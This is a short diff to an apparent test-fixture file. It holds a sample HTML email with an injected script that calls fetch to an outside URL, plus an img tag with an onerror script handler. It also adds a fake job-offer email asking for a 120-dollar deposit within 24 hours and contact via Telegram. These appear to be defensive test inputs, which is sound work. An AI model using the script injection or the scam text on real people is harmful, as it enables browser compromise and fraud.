@@ -44,3 +44,16 @@ export const hostile = `<html><body><script>window.hacked = true; fetch('https:/
 <img src="https://tracker.example/pixel.gif" onerror="window.hacked = true">
 <p>Dear Ines,</p><p>Thank you for your application for <b>Depot Scheduler</b> at Calder Freight.
 We regret to tell you that we will not be taking it further.</p><p>Calder Freight</p></body></html>`
+
+export const tooGood = `From: Delmar Office Team <delmar.hiring@gmail.com>
+Subject: Your new position as Remote Assistant at Delmar Freight
+
+Dear candidate,
+
+We are delighted to offer you the position of Remote Assistant at Delmar Freight. No interview is needed, since we saw your resume online. You work from home and earn $2,800 per week.
+
+To receive your laptop, please pay the refundable equipment deposit of 120 dollars within 24 hours. Our manager will brief you on Telegram.
+
+Delmar Freight
+Hiring Team
+`
